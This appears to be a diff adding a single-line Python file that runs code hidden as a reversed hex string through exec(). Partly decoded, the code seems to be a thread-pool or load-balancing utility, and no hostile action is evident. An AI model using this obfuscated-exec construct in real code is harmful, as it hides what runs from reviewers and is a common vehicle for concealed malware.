@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282462716f6268637164402d3025636e6164737e694462716f62686371644a0a09282c6c616f597669647f6e6e2465676e6168636f5e266c65637020202020202020202020202a0a092223747e656d6765637228286375627665627f54727164737f5e266c656370202020202020202020202020202020202020202a05637c6166402d302d52276e6964616f6c622b5972747e656f53747e656d67656370202020202020202020202020202020202020202a05637c6166402d302d5225636e616c61626f5275647661622b5972747e656f53747e656d67656370202020202020202020202020202020202020202a0a3d5225636e616c61626f5275647661622b5972747e656f53747e656d676563702669602020202020202020202020202020202a0d5223747e656d676563722b53756962747e656f5e266c6563702d302972747e656f53747e656d676563702020202020202020202020202020202a0a3225636e616c616262202d3d30256362757f637026696020202020202020202020202a0a09256362757f6378286375627665627f54727164737f5e266c6563702020202020202020202020202020202a0a38636f6075602d31202d5228636f6075622b5972747e656026696020202020202020202020202a0a066e696e2864716d6d202d302d5224716f54656863647566622b5972747e65602020202020202020202020202020202a047f686370716e63702478756e60256864702e6f60297274756270246e6160247c65716665646025686470277f6863702c24656c6961666024616f6c6024737279664023202020202020202020202020202020202a0a356e6f6e402379602d5224716f54656863647566622b5972747e656026696c656020202020202020202020202a066e696e2864716d6d2025637c656028636f6075602d3d302d5228636f6075622b5972747e6560266960292823696e6f647f6e6f6d6e256d6964702d302d5224716f54656863647566622b5972747e65602020202020202020202020202020202a0e69616761602863647566602475726025657c616670256864702075656b602a347867696c66602e6960256c696867702465647164696c61667e694023202020202020202020202020202020202a05657c6166702d302d5225657c6166722b5972747e65602020202020202020202020202020202a0a356e6f6e40247f6e6023796025657c61667026696020202020202020202020202a027f627275602d302d52227f627275622b5972747e656020202020202020202020202a05637c6166402d302d52276e6964616f6c622b5972747e656020202020202020202020202a0d556362757f637b53756962747e656f5e266c6563702d302972747e656020202020202020202020202a0e6275747562702020202020202020202020202020202a047867696c66602e6960237167702379686470256c6968677024656863647967737023716770247e657f6363614023202020202020202020202020202020202a0a3e6f69647162756e65676f5e266c6563702d31202e6f69647162756e65676026696020202020202020202020202a0a3465676e6168636f5e266c6563702864796770202020202020202a0a39256e6f6e402d30256e6f6e402c70227473702a327f627275602c25657c6166702c247e69602a38636f6075602c247e69602a3e6f69647162756e6567602c227473702a356362757f63702c266c6563782863796e69666f50266564602020202a0a092567616373756d602c25657c6166702c28636f6075602c2e6f69647162756e6567602c256362757f63782863796e69666f5e266c656370202020202020202a056e6f6e4025637c6560256e6f6e4023796025657c61667026696029227f627275602c2465627574707163682567616373756d6f527f6272756f502d302567616373756d60202020202020202a05602c256e6f6e402d30227f627275602c25657c6166702020202020202020202020202020202a0a35602371602e6f69647075636875402470756368756020202020202020202020202a09276e696e69616d65627f55636e616c6162602c2d522e656b6f647f537375636361622b537e656b6f64702c2d522e656b6f647f5469622b537e656b6f64702c29756b6f5960716823747e656d676563702d3025657c616670202020202020202020202020202020202020202a0a35637c65602020202020202020202020202020202a09237e656b6f64702c29756b6f596071682f666e696f5e69676f6c602d3025657c616670202020202020202020202020202020202020202a0a32256c69666f627072202d3d30256362757f637026696c65602020202020202020202020202020202a092d522e656b6f647f5469622b537e656b6f64702c29756b6f5960716821647f65717f5e69616d6f547567602d3025657c616670202020202020202020202020202020202020202a0a3221647f657172202d3d30256362757f637026696c65602020202020202020202020202020202a092d522e656b6f647f5469622b537e656b6f64702c29756b6f5960716825636e616c61626f547567602d3025657c616670202020202020202020202020202020202020202a0a3225636e616c616262202d3d30256362757f63702669602020202020202020202020202020202a0a0d52237e656b6f64722b527563757f556679647361602d30237e656b6f64702020202020202020202020202020202a092228616265727562602669647b61602e657b616228227f627275456d69647e657250256379616270202020202020202020202020202020202020202a0a3275626d657e602d31202d522275626d657e622b527563757f55667964736160227f60227563757f55667964736160247f6e602669602020202020202020202020202020202a0928227563757f5566796473616f5475676e25636e6164737e6948647571402d30227563757f556679647361602020202020202020202020202020202a077f6e602972602465627960787560256671686029716d60256d696470247f686370716e6370247160246562757470716360237e656b6f645023202020202020202020202020202020202a0a3972747020202020202020202020202a0a3465627574707163602371602928256275747071636e292824757074757f6f5461656278647f502864796770202020202020202a056e6f6e402c256e6f6e402d30227f627275602c25657c616670202020202020202a0a39247e69602a376e696e69616d65627f55636e616c6162602c227473702a39756b6f596071602c247e69602a3275626d657e602c247e69602a38636f6075602c247e69602a3e6f69647162756e6567602c227473702a356362757f63702c266c65637828636475666f50266564602020202a0a0920202020202020202a0c276e696e69616d65627f55636e616c61626020202020202020202020202a0c29756b6f5960716f5e266c65637020202020202020202020202a0c2275626d657e6e266c65637020202020202020202020202a0c2d5228636f6075622b5972747e656020202020202020202020202a0c2e6f69647162756e65676f5e266c65637020202020202020202020202a0c256362757f637020202020202020202020202a0c28636475666f5e266c65637020202020202020202020202a0824796d6265737e227f6475736568756f5e266c656370202020202020202a003025637c656025636e616c6162602669602920302c22276e696e69616d656272282475676e25636e616c6162602d30276e696e69616d65627f55636e616c616260202020202020202a0d5225657c6166722b5d5225636e616c6162622b53756962747e656f5e266c6563702d3025636e616c616260202020202020202a0e62757475627020202020202020202020202a05657274502d302d5225636e616c61626f5275647661622b5972747e656020202020202020202020202a0a3d52276e6964616f6c622b5d5225636e616c6162622b53756962747e656f5e266c656370246e61602223747e656d67656372202d3d30256362757f6370266960202020202020202a05657274502d302d52276e6964616f6c622b5972747e6560202020202020202a0e62757475627020202020202020202020202a0a3d52276e6964616f6c622b5972747e6560266960202020202020202a0d556362757f637b53756962747e656f5e266c6563702d302972747e6560202020202020202a0b636f6c6f5e266c65637023746c6f686022756c6c6163402320202020202020202a0a39227473702a356362757f63702c266c656378286375627665627f54727164737f50266564602020202a0a092223747e656d67656372202c2221647f657172202c2225636e616c6162622825647164696c61667e696e266c656370202020202020202a0a39266c656378247e656d656c647475637f5e6f6f50266564602020202a0a09256362757f6378286375627665627f54727164737f5e266c656370202020202020202020202020202020202020202a0a356e6f6e40247f6e602379602275626d657e6e266c6563702669602020202020202020202020202020202a066e696e2864716d6d202d302d5224716f54656863647566622b5972747e6560202020202020202020202020202020202020202a0a356e6f6e40247f6e602379602d5224716f54656863647566622b5972747e65602669602020202020202020202020202020202a01302d3b202d5228636f6075622b5972747e65602020202020202020202020202020202a0d556362757f637b53756962747e656f5e266c6563702d302972747e65602020202020202020202020202020202a0a33554342555f4350227f6023756362757f63702e6960256362757f6370227f666020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a0222222e277f6e602d6568647023756863756276656270246e61602465627960787560237160292c6c61602a347c6571666564682023756362757f6370237b62716d42222220202020202020202a0a39227473702a33756362757f637a202c266c65637825647164696c61667e6960266564602020202a0a05657274502e627574756270202020202020202a09276e696e69616d656278247961677e2465676e6168636f5e266c6563702020202020202020202020202020202a05637c6166402e627574756270202020202020202020202020202020202020202a0a30302d3c30276e696e69616d6562702669602020202020202020202020202020202a092823696e6f647f6e6f6d6e256d6964702d20256e696c64616564602d30276e696e69616d6562702020202020202020202020202020202a0a3929282375657c61667e23756962747e656f5e266c6563702e69602560227f66602d52276e6964616f6c622b5560246e6160256e6f6e402379602d5224716f54656863647566622b5568297e6160256c6968677020202020202020202020202a0a3465676e6168636f5e266c6563702864796770202020202020202a04757f656d6964702b20292823696e6f647f6e6f6d6e256d6964702d30256e696c6461656460202020202020202a0222222e24707d65647471602473727966602374796024656c6961666023716860227f60246564616f6c602e6565626023716860256362757f63702972756675602c69647e6570237b636f6c6242222220202020202020202a0a3c6f6f62602e3d202924716f6c66602a34757f656d6964702c266c656378246564616f6c6f5c69647e657f5479616770266564602020202a0a0d7020202020202020202020202a0c2d7d52227f627275622b5972747e65602669602928237d6564796e23756962747e656f5e266c6563702e69602972747e65602c256362757f6370227f66602d52227f627275622b5972747e65602a356362757f637b702a3223727f62727562202020202020202020202020202020202a0c2d756e6f6e40247f6e602379602d5225657c6166722b5d556362757f637b53756962747e656f5e266c65637026696023554342555f43502e6960256362757f6370227f6660256362757f637b702a32246564616f6c62202020202020202020202020202020202a0c256c616473702a32256c61647372202020202020202020202020202020202a0c2d73554342555f43502e6960256362757f6370227f66602d5225657c6166722b5d556362757f637b53756962747e656f5e266c6563702a356362757f637b702a322375657c616672202020202020202020202020202020202a0b702e62757475627020202020202020202020202a0a09256362757f6378286375627665627f54727164737f5e266c656370202020202020202020202020202020202020202a09256362757f63782464616e256c61647370202020202020202020202020202020202020202a0a3d556362757f637b537c64747e266c6563702d3e302d5224716f54656863647566622b5972747e65602d20277f6e60227f60256e6f6e402379602d5224716f54656863647566622b5972747e65602669602020202020202020202020202020202a0d556362757f637b53756962747e656f5e266c6563702d302972747e65602020202020202020202020202020202a0a33554342555f43502e6960256362757f6370227f666020202020202020202020202a0928247563702d30256c6164737020202020202020202020202a092823696e6f647f6e6f6d6e256d6964702d30277f6e6020202020202020202020202a0a09756b6f596071602d3029756b6f5960716f5e266c65637020202020202020202020202a092823756962747e656f5974707d656f5e266c6563702d3023756962747e656f5e266c6563702020202020202020202020202020202a01302d3b202e6f69647162756e65676f5e266c6563702020202020202020202020202020202a0d522275626d657e622b527563757f556679647361602d302275626d657e6e266c6563702020202020202020202020202020202a0a3275626d657e6e266c6563702d31202d522275626d657e622b527563757f5566796473616026696020202020202020202020202a0a3b636f6c6f5e266c6563702864796770202020202020202a02222220202020202020202a0e24656c6961666028637562766562702473716c6025637f68677023756362757f63702568647023746c6f686023727f627275602e256362757f6370256c61647370202020202020202a097275667560227f66602863756276656270246e657f62776b63616260216023747271647370246e61602d7d727473702a356362757f637b702a3223727f6272756220202020202020202a0c247563702a32246564616f6c62202c247563702a32256c61647372202c2d75657c6166702a356362757f637b702a322375657c6166722b70237e627574756250202020202020202a02222220202020202020202a0a34736964602e3d202924736964602a327563757f556679647361602c227473702a39756b6f596071602c266c656378247f686370716e6370266564602020202a0a0d70202020202020202a03554342555f43502e6960256362757f6370227f666020202020202020202020202a0d756e6f6e402a32227f62727562202c25637c6166402a3225636e616c61626f527564766162202c20302a3228636f607562202c25637c6166402a32276e6964616f6c62202c256e6f6e402a3224716f5465686364756662202c256e6f6e402a3225657c6166722b702a356362757f637020202020202020202020202a0b702e627574756270202020202020202a0a34736964602e3d20292823756962747e656f5974707d656f50266564602020202a046f6864756d63696471647370402020202a0a05657274502d302f54656a796c616964796e696f5e266c65637020202020202020202020202a0a09247e656d656c647475637f5e6f6f5e266c65637822756e656473796c6f547e656d656c647475637f52756473796765627020202020202020202020202a0a092b636f6c6f5e266c6563782e6f696479646e6f634e276e69646165627864702d302465676e6168636f5e266c65637020202020202020202020202a09282b636f6c4e276e69646165627864702d302b636f6c6f5e266c65637020202020202020202020202a09222462716f6268637164622d3879666562707f556d616e6f546165627864702c2352554b425f475f5442514f42484351444d3372756b627f677f58716d68227f6475736568754c6f6f60546165627864502d30227f6475736568756f5e266c65637020202020202020202020202a0a0d7d756e6f6e402c70227473702a32227f62727562202c2c6f6f62602a3225636e616c61626f527564766162202c247e69602a3228636f607562202c2c6f6f62602a32276e6964616f6c62202c256e6f6e402c7024716f6c66602a3224716f5465686364756662202c297e61402a3225657c6166722b702a356362757f637b702a33756962747e656f50266f6024716d627f6640232020202020202020202020202a092823756962747e656f5974707d656f5e266c6563702d3023756962747e656f5e266c65637020202020202020202020202a00302d302e6f69647162756e65676f5e266c65637020202020202020202020202a056e6f6e402d3029756b6f5960716f5e266c65637020202020202020202020202a056e6f6e402d302275626d657e6e266c65637020202020202020202020202a0d7020202020202020202020202a0c2c44545f53545e454d4745435f5442514f4248435144402a3223747e656d67656372202020202020202020202020202020202a0c2c44545f554c49464f42505f5442514f4248435144402a32256c69666f627072202020202020202020202020202020202a0c2c44545f51445f45515f5442514f4248435144402a3221647f657172202020202020202020202020202020202a0c2c44545f55434e414c41424f5442514f4248435144402a3225636e616c616262202020202020202020202020202020202a0b702d30237c64747e266c65637020202020202020202020202a0a3f54656a796c616964796e696f5e266c656370247f6e60266960202020202020202a0a39266c6563782f5f54796e696f5f50266564602020202a0a0f55636e6164737e696f5e237c63602e627574756270202020202020202a09237c63682f5f57756e6f5f5e29282275607573702d302f55636e6164737e696f5e237c636020202020202020202020202a0a3f55636e6164737e696f5e237c6360247f6e60266960202020202020202a0a3923776271677b6a2a202c237762716a202c237c63682f5f57756e6f5f50266564602020202a0a05637c6166402d302f54656a796c616964796e696f502020202a056e6f6e402d302f55636e6164737e696f502020202a022222202020202a0e237c696166602863756276656270256864702e656867702020202a0d5223727f627275622b5928247f686370716e63702867657f62786470246564727f60756270246e61602e6565627363702568647026666f602470756b6023796023747e696270702020202a086375627665627021602275667564716867502e256d696470286364756660247160237e656b6f647023772275637570256679647361602568647025637570237568637562766562502020202a0a0e276e69686479727566756023707f62746023747e657f63636160276e69686364796773502e247e656d656c6474756370297275667560227564766160237e6572702020202a0479602b3564696370227566727563702465676e61686360276e696864756d6f637022756476616028637562766562702160237563627f6660292825647164696c61667e69602020202a0e247e657f636361602e6160266f6024616f6c602473727966602972756670256864702e6f6024656b636f6c6260297c6e6f60237960257e656d60256864702020202a0f63702c2c6f6f607022756b627f6770246566796c6d276e6f6c6021602e6f6025637f68647023756863756276656270246e61602c4454502279656864702473716070256271602020202a03756e6f602863696867702374727f607562702c29716771602478676961627473702375657c6166702465686361636025686470237e6275747562702928247f686370716e63702020202a0a0e2925647164696c616675627d256c6968677d256c6164737820247e657f636361602566796473616025686470227f66602164716460257e656d602e69616d602e677f6e6b602473716c422222202020202a0a3462716f6268637164402373716c636a0a0a0d5844574e454c4f525f4252554f58514d4a3b5567616373756d602e6275747562702020202a022164716460216461602b616469647220227f602923756e696c682e696f6a6e22202c7022202d302567616373756d602020202a092f5f556d616e6f5f5e29227f627275682560797470227f6029227f6272756822747378246e656070716e23756e696c60202020202020202a0a356e6f6e40247f6e60237960227f627275602669602020202a0d592820796274737e256e696c60266960292823756e696c64796c60737e292465627574707163682e696f6a6e2222202e6960256e696c60227f6660292820796274737e256e696c6b502d3023756e696c602020202a0a327473702e3d2029256e6f6e402c702e6f69647075636875402a327f627275602c2473796c602a3465627574707163682567616373756d6f527f6272756f502665646a0a0a04757f6464737e237973702e627574756270202020202020202a0924757f6464737e2379737824757074757f4461656278645f502d3024757f6464737e2379737020202020202020202020202a0a3924757074757f4461656278645f502c24757f6464737e2379737825636e6164737e69637960247f6e60266960202020202020202a0a3b636f6c6f54757074757f6f5028647967702020202a0a34757074757f4461656278645f502e3d20292824757074757f6f5461656278647f502665646a0a09282b636f6c4e276e69646165627864702d302b636f6c6f54757074757f6f5a0a056e6f6e402d302275666665726e2c61636f6c6f5e266c65637020202020202020202020202a0a397c6c616e696660202020202020202a02756666657260246c6569697020202020202020202020202a0a39727470202020202020202a027566666572602d302275666665726e2c61636f6c6f5e266c656370202020202020202a0d5b502d3022756666657260202020202020202a0a39266c6563782562757470716360266564602020202a027567616e616d647875647e6f636e22696c647875647e6f6360402020202a0a09256d616e602c2475676271647e266c65637822747471647567602e627574756270202020202020202a0a39256d616e602c266c6563782f5f527474716475676f5f50266564602020202a0a09282863757c666e2475676271647e266c65637020202020202020202020202a0a356e6f6e4023796029256e6f6e402c2222756666657262202c2c61636f6c6f5e266c6563782274747164756760266960202020202020202a0a39266c6563782863757c6660266564602020202a0a0924787564782e656c602e627574756270202020202020202a092478756478246e656070716e22756666657260202020202020202a09247875647825647962777e2475676271647e266c6563702e62757475627020202020202020202020202a0a356e6f6e4023796022756666657260266960202020202020202a09256e6f6e402c2222756666657262202c2c61636f6c6f5e266c65637822747471647567602d3022756666657260202020202020202a0a347e69602e3d2029227473702a34787564702c266c656378256479627770266564602020202a0a09282c61636f6c6e276e69646165627864702d302c61636f6c6f5e266c656370202020202020202a047567627164702d302475676271647e266c656370202020202020202a0a39247567627164702c266c6563782f5f54796e696f5f50266564602020202a0a022222202020202a0e2867657f627864702478676961627473702375647962777024616562786470227568647f602972756675602020202a0b3e6565627363702e6f60237960257e656d602275667564716867702275667f602e6771627460276e69656260266f6024616564737e6960227566666572602377246165627864702020202a04716864702f647023756f676029282562757470716360256469637e6960246165627864702160266f6024757074757f402e24757f6464737e23797370227f66602e696023746e616473502020202a022222202020202a0a34757074757f4461656278645f502373716c636a0a0a003032302d302844574e454c4f525f4252554f58514d4a056362757f6370227560702470756b602567616373756d60227f62727560247375676e6f6c40232a0a092223747e656d67656372202c22256c69666f627072202c2221647f657172202c2225636e616c61626228202d3023554342555f435a0e24737279666024656c657465686363702562602f647023716860232a05636e616c6162602f63702c25636e616c616260247e656272757360256864702864796770246568636475666023796023747e656d676563702a3372756474716d60227564627f40232a0a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a092a0c2352554b425f475f5442514f4248435144402020202a0c2c44545f53545e454d4745435f5442514f4248435144402020202a0c2c44545f51445f45515f5442514f4248435144402020202a0c2c44545f554c49464f42505f5442514f4248435144402020202a0c2c44545f55434e414c41424f5442514f4248435144402020202a082024727f607d69602769666e6f636e207071602d6f62766a02756e656473796c6f547e656d656c647475637f52756473796765627024727f607d6960237b6f6f686e247e65696c636e207071602d6f62766a03747e656d676563702c2f666e696f5e69676f6c602c21647f65717f5e69616d6f547567602c25636e616c61626f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a0a027f6475736568754c6f6f605461656278645024727f607d6960237562757475766e247e65627275736e6f63602d6f62766a056d69647024727f607d696a076e696461656278647024727f607d696a0379737024727f607d696a0864716d6024727f607d696a02696c647875647e6f636024727f607d696" ));